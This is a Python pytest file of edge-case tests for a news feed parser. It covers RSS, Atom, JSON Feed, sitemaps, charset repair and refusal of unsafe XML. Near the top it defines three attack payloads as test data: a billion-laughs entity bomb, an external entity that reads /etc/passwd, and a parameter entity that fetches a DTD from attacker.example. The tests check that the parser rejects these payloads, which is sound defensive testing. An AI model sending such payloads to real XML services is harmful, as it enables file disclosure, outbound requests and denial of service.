"""Hand-written edge cases for parse_feed: small inline documents, no shared data."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest

from newsdesk.errors import NotAFeed, ParseError, UnsafeXML
from newsdesk.feeds import parse_feed

URL = "https://news.example.org/feed.xml"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://x.example/1</link></item></channel></rss>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>t</title>
<item><title>&xxe;</title><link>https://x.example/1</link></item></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>t</title></channel></rss>"""

RSS2 = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"
     xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"
     xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel>
 <title>  Example   News </title>
 <link>https://news.example.org/</link>
 <language>de-DE</language>
 <ttl>15</ttl>
 <item>
  <title>Caf&#233; &amp; &lt;b&gt;Bar&lt;/b&gt;   opens</title>
  <link>/2024/01/cafe</link>
  <description>&lt;p&gt;First &lt;em&gt;paragraph&lt;/em&gt;&lt;/p&gt;
    &lt;p&gt;Second&lt;/p&gt;</description>
  <pubDate>Mon, 01 Jan 2024 12:00:00 +0100</pubDate>
  <guid isPermaLink="false">cafe-1</guid>
  <dc:creator>Anna Müller</dc:creator>
  <category>Local</category><category>Food</category>
  <media:thumbnail url="https://img.example.org/cafe.jpg"/>
 </item>
 <item>
  <title>Only a guid</title>
  <guid>https://news.example.org/2024/01/guid-only</guid>
 </item>
</channel></rss>"""


def test_billion_laughs_is_refused_not_expanded() -> None:
    with pytest.raises(UnsafeXML, match="entit"):
        parse_feed(BILLION_LAUGHS, url=URL)


def test_external_entity_is_refused_and_never_read() -> None:
    with pytest.raises(UnsafeXML) as caught:
        parse_feed(EXTERNAL_ENTITY, url=URL)
    assert "root:" not in str(caught.value)


def test_parameter_entity_is_refused() -> None:
    with pytest.raises(UnsafeXML):
        parse_feed(PARAMETER_ENTITY, url=URL)


def test_external_dtd_reference_is_dropped_not_loaded() -> None:
    body = (
        b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
        b'<rss version="0.91"><channel><title>Caf&eacute;</title><link>https://a.example/</link>'
        b"<item><title>Ni&ntilde;o &nbsp;y &bogus;</title><link>https://a.example/1</link></item>"
        b"</channel></rss>"
    )
    feed = parse_feed(body, url=URL)
    assert feed.format == "rss0.9"
    assert feed.title == "Café"
    assert feed.items[0].title == "Niño y &bogus;"


def test_html_page_with_alternate_links_is_not_a_feed() -> None:
    page = b"""<!DOCTYPE html><html><head><title>Example</title>
    <link rel="stylesheet" href="/s.css">
    <link rel="alternate" type="application/rss+xml" title="RSS" href="/feed/">
    <link rel="alternate" type="application/atom+xml" href="https://news.example.org/atom.xml">
    </head><body><p>Hello</p></body></html>"""
    with pytest.raises(NotAFeed) as caught:
        parse_feed(page, url="https://news.example.org/page")
    assert caught.value.feed_links == (
        "https://news.example.org/feed/",
        "https://news.example.org/atom.xml",
    )
    assert "HTML" in str(caught.value)


@pytest.mark.parametrize("body", [b"", b"   \n\t  ", b"\xef\xbb\xbf"])
def test_empty_body_is_a_parse_error(body: bytes) -> None:
    with pytest.raises(ParseError, match=r"empty|whitespace"):
        parse_feed(body, url=URL)


@pytest.mark.parametrize(
    "body", [b"hello, this is not a feed", b"\x00\x01\x02garbage\xff\xfe\x80", b"%PDF-1.7 ..."]
)
def test_garbage_is_a_parse_error(body: bytes) -> None:
    with pytest.raises(ParseError):
        parse_feed(body, url=URL)


def test_truncated_beyond_recovery_is_a_parse_error() -> None:
    with pytest.raises(ParseError, match=r"truncated|recovered|item"):
        parse_feed(b'<?xml version="1.0"?><rss version="2.0"><channel><item><ti', url=URL)


def test_other_xml_is_not_a_feed() -> None:
    with pytest.raises(NotAFeed, match="svg"):
        parse_feed(b'<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>', url=URL)


def test_empty_channel_is_an_empty_feed_not_an_error() -> None:
    feed = parse_feed(
        b'<rss version="2.0"><channel><title>Quiet</title><link>https://q.example/</link>'
        b"</channel></rss>",
        url=URL,
    )
    assert feed.items == ()
    assert feed.title == "Quiet"
    assert feed.format == "rss2.0"


def test_rss2_fields_are_normalised() -> None:
    feed = parse_feed(RSS2.encode(), url=URL, content_type="application/rss+xml")
    assert (feed.title, feed.link, feed.language) == (
        "Example News",
        "https://news.example.org/",
        "de-DE",
    )
    assert feed.ttl_seconds == 15 * 60
    first, second = feed.items
    assert first.title == "Café & Bar opens"
    assert first.summary == "First paragraph Second"
    assert first.url == "https://news.example.org/2024/01/cafe"
    assert first.guid == "cafe-1"
    assert first.published == datetime(2024, 1, 1, 11, 0, tzinfo=UTC)
    assert first.authors == ("Anna Müller",)
    assert first.categories == ("Local", "Food")
    assert first.image == "https://img.example.org/cafe.jpg"
    assert first.language == "de-DE"
    assert second.url == "https://news.example.org/2024/01/guid-only"


def test_sy_update_period_gives_ttl() -> None:
    body = (
        b'<rss version="2.0" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"><channel>'
        b"<title>t</title><sy:updatePeriod>hourly</sy:updatePeriod>"
        b"<sy:updateFrequency>2</sy:updateFrequency></channel></rss>"
    )
    assert parse_feed(body, url=URL).ttl_seconds == 1800


def test_malformed_xml_is_recovered_with_a_warning() -> None:
    body = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>Fish & Chips</title>'
        b"<item><title>Salt & vinegar</title><link>https://f.example/1?a=1&b=2</link></item>"
        b"<item><title>Unclosed <b>bold</title><link>https://f.example/2</link></item>"
        b"</channel></rss>"
    )
    feed = parse_feed(body, url=URL)
    assert any("recovered malformed XML" in w for w in feed.warnings)
    assert [i.url for i in feed.items] == ["https://f.example/1?a=1&b=2", "https://f.example/2"]
    assert feed.items[0].title == "Salt & vinegar"
    assert feed.title == "Fish & Chips"


@pytest.mark.parametrize(
    ("ref", "expected"),
    [
        ("&#xD800;", "\ufffd"),  # half of a surrogate pair: libxml2 dropped the document
        ("&#55296;", "\ufffd"),
        ("&#xD83D;&#xDE00;", "\U0001f600"),  # an emoji split in two references
        ("&#55357;&#56832;", "\U0001f600"),
        ("&#xDE00;&#xD83D;", "\ufffd\ufffd"),  # the halves the wrong way round
        ("&#x1;", "\ufffd"),
        ("&#xFFFE;", "\ufffd"),
        ("&#x110000;", "\ufffd"),
        ("&#8217;&#x1F600;", "\u2019\U0001f600"),  # allowed references are kept
    ],
)
def test_references_to_characters_xml_forbids_lose_nothing(ref: str, expected: str) -> None:
    body = (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>'
        f"<item><title>Bad {ref} title</title><link>https://f.example/1</link></item>"
        "<item><title>Good title</title><link>https://f.example/2</link></item>"
        "</channel></rss>"
    ).encode()
    feed = parse_feed(body, url=URL)
    assert [i.title for i in feed.items] == [f"Bad {expected} title", "Good title"]


def test_json_feed_lone_surrogate_escapes_become_replacement_characters() -> None:
    # "\ud83d" alone (an emoji cut in two) decodes to a string that cannot be stored.
    body = (
        b'{"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": ['
        b'{"id": "1", "url": "https://f.example/1", "title": "Cut \\ud83d emoji",'
        b' "content_text": "Whole \\ud83d\\ude00 emoji"},'
        b'{"id": "2", "url": "https://f.example/2", "title": "Good title"}]}'
    )
    feed = parse_feed(body, url=URL)
    assert [i.title for i in feed.items] == ["Cut \ufffd emoji", "Good title"]
    assert "Whole \U0001f600 emoji" in (feed.items[0].summary or "")


def test_json_feed_nested_too_deeply_is_a_parse_error() -> None:
    with pytest.raises(ParseError, match="nested too deeply"):
        parse_feed(b"[" * 100_000 + b"]" * 100_000, url=URL)


def test_rss_090_is_read() -> None:
    body = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://my.netscape.com/rdf/simple/0.9/">
  <channel><title>Old Site</title><link>http://old.example/</link>
  <description>d</description></channel>
  <item><title>First</title><link>http://old.example/1</link></item>
  <item><title>Second</title><link>http://old.example/2</link></item>
</rdf:RDF>"""
    feed = parse_feed(body, url=URL)
    assert feed.format == "rss0.9"
    assert [i.title for i in feed.items] == ["First", "Second"]
    assert feed.items[1].url == "http://old.example/2"


def test_rss_10_rdf_is_read() -> None:
    body = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
  xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="http://a.example/"><title>A</title><link>http://a.example/</link></channel>
  <item rdf:about="http://a.example/1"><title>One</title><link>http://a.example/1</link>
  <dc:date>2024-03-01T10:00:00+02:00</dc:date></item>
</rdf:RDF>"""
    feed = parse_feed(body, url=URL)
    assert feed.format == "rss1.0"
    assert feed.items[0].published == datetime(2024, 3, 1, 8, 0, tzinfo=UTC)


def test_xhtml_wrapped_atom_is_unwrapped() -> None:
    body = b"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><body>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Wrapped</title><id>urn:x</id>
<link rel="alternate" href="https://w.example/"/>
<entry><title>Inside</title><id>urn:1</id><link href="https://w.example/1"/>
<updated>2024-01-02T03:04:05Z</updated></entry></feed></body></html>"""
    feed = parse_feed(body, url=URL)
    assert feed.format == "atom1.0"
    assert feed.title == "Wrapped"
    assert feed.items[0].url == "https://w.example/1"
    assert any("unwrapped" in w for w in feed.warnings)


def test_atom_with_only_id_urls_and_xml_base() -> None:
    body = b"""<feed xmlns="http://www.w3.org/2005/Atom"
  xml:base="https://blog.example/" xml:lang="fr">
<title type="html">Le &lt;i&gt;Blog&lt;/i&gt;</title><id>https://blog.example/</id>
<entry><title>Sans lien</title><id>https://blog.example/posts/1</id>
<updated>2024-01-02T03:04:05+01:00</updated><author><name>Zo\xc3\xa9</name></author></entry>
<entry><title>Relatif</title><id>tag:blog.example,2024:2</id><link href="posts/2"/></entry>
<entry><title>Tag only</title><id>tag:blog.example,2024:3</id></entry>
</feed>"""
    feed = parse_feed(body, url="https://feeds.example/blog.atom")
    assert feed.title == "Le Blog"
    assert feed.language == "fr"
    one, two, three = feed.items
    assert one.url == "https://blog.example/posts/1"
    assert one.updated == datetime(2024, 1, 2, 2, 4, 5, tzinfo=UTC)
    assert one.authors == ("Zoé",)
    assert two.url == "https://blog.example/posts/2"
    assert (three.url, three.guid) == (None, "tag:blog.example,2024:3")


def test_json_feed_11() -> None:
    doc = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "JSON &amp; Co",
        "home_page_url": "https://j.example/",
        "feed_url": "https://j.example/feed.json",
        "language": "en",
        "authors": [{"name": "Feed Author"}],
        "items": [
            {
                "id": "1",
                "url": "/posts/1",
                "title": "Hello <b>world</b>",
                "content_html": "<p>Body</p>",
                "date_published": "2024-05-01T12:00:00Z",
                "date_modified": "2024-05-02T12:00:00-04:00",
                "tags": ["a", "b"],
                "image": "https://j.example/i.png",
            },
            {"id": "https://j.example/posts/2", "content_text": "No title here"},
        ],
    }
    feed = parse_feed(json.dumps(doc).encode(), url="https://j.example/feed.json")
    assert feed.format == "jsonfeed"
    assert feed.title == "JSON & Co"
    first, second = feed.items
    assert first.url == "https://j.example/posts/1"
    assert first.title == "Hello world"
    assert first.summary == "Body"
    assert first.published == datetime(2024, 5, 1, 12, 0, tzinfo=UTC)
    assert first.updated == datetime(2024, 5, 2, 16, 0, tzinfo=UTC)
    assert first.categories == ("a", "b")
    assert first.authors == ("Feed Author",)
    assert first.image == "https://j.example/i.png"
    assert second.url == "https://j.example/posts/2"


def test_truncated_json_feed_is_a_parse_error() -> None:
    with pytest.raises(ParseError, match="JSON"):
        parse_feed(
            b'{"version": "https://jsonfeed.org/version/1", "items": [{"id": "1", "ti', url=URL
        )


def test_json_that_is_not_a_feed() -> None:
    with pytest.raises(NotAFeed):
        parse_feed(b'{"status": "ok", "data": []}', url=URL)


def test_google_news_sitemap() -> None:
    body = b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
        xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">
  <url><loc>https://n.example/business/article55.html</loc>
    <news:news><news:publication><news:name>The Example Times</news:name>
      <news:language>en</news:language></news:publication>
      <news:publication_date>2024-12-23T10:00:00+02:00</news:publication_date>
      <news:title>Companies A, B in Merger Talks</news:title>
      <news:keywords>business, merger</news:keywords>
    </news:news></url>
</urlset>"""
    feed = parse_feed(body, url="https://n.example/news-sitemap.xml")
    assert feed.format == "sitemap-news"
    (item,) = feed.items
    assert item.url == item.guid == "https://n.example/business/article55.html"
    assert item.title == "Companies A, B in Merger Talks"
    assert item.published == datetime(2024, 12, 23, 8, 0, tzinfo=UTC)
    assert item.language == "en"
    assert item.categories == ("business", "merger")


def test_plain_sitemap_and_sitemap_index() -> None:
    body = b"""<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
<url><loc>https://s.example/a</loc><lastmod>2024-01-05</lastmod></url></urlset>"""
    feed = parse_feed(body, url="https://s.example/sitemap.xml")
    assert feed.format == "sitemap"
    assert feed.items[0].updated == datetime(2024, 1, 5, tzinfo=UTC)
    index = b"""<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
<sitemap><loc>https://s.example/news.xml</loc></sitemap></sitemapindex>"""
    with pytest.raises(NotAFeed) as caught:
        parse_feed(index, url="https://s.example/sitemap.xml")
    assert caught.value.feed_links == ("https://s.example/news.xml",)


def test_utf16_with_bom() -> None:
    text = (
        '<?xml version="1.0" encoding="UTF-16"?><rss version="2.0"><channel><title>Grüße</title>'
        "<item><title>Привет</title><link>https://u.example/1</link></item></channel></rss>"
    )
    for codec in ("utf-16", "utf-16-be"):
        body = text.encode(codec)
        if codec == "utf-16-be":
            body = b"\xfe\xff" + body
        feed = parse_feed(body, url=URL)
        assert feed.title == "Grüße"
        assert feed.items[0].title == "Привет"
        assert feed.encoding == "utf-16"


def test_wrong_declared_charset_utf8_bytes() -> None:
    body = (
        '<?xml version="1.0" encoding="ISO-8859-1"?><rss version="2.0"><channel><title>t</title>'
        "<item><title>Größere Änderungen à Noël</title><link>https://w.example/1</link></item>"
        "</channel></rss>"
    ).encode()
    feed = parse_feed(body, url=URL)
    assert feed.items[0].title == "Größere Änderungen à Noël"
    assert any("declared ISO-8859-1 but was utf-8" in w for w in feed.warnings)


def test_wrong_declared_charset_legacy_bytes() -> None:
    body = (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>t</title>'
        "<item><title>Ça coûte très cher à Noël, déjà</title><link>https://w.example/1</link>"
        "</item></channel></rss>"
    ).encode("cp1252")
    feed = parse_feed(body, url=URL)
    assert feed.items[0].title == "Ça coûte très cher à Noël, déjà"
    assert feed.encoding == "windows-1252"
    assert any("but was" in w for w in feed.warnings)


def test_http_charset_is_used_when_the_document_declares_none() -> None:
    body = (
        "<rss version='2.0'><channel><title>Новости</title>"
        "<item><title>Москва</title><link>https://r.example/1</link></item></channel></rss>"
    ).encode("koi8-r")
    feed = parse_feed(body, url=URL, content_type="text/xml; charset=KOI8-R")
    assert (feed.title, feed.items[0].title, feed.encoding) == ("Новости", "Москва", "koi8-r")


def test_double_encoded_utf8_is_repaired() -> None:
    title = "Élysée : la réforme des retraites prévue pour l'été"
    body = (
        (
            '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
            "<title>Le Journal</title>"
            f"<item><title>{title}</title><link>https://m.example/1</link></item></channel></rss>"
        )
        .encode()
        .decode("cp1252")
        .encode("utf-8")
    )
    feed = parse_feed(body, url=URL)
    assert feed.items[0].title == title
    assert "repaired double-encoded UTF-8" in feed.warnings
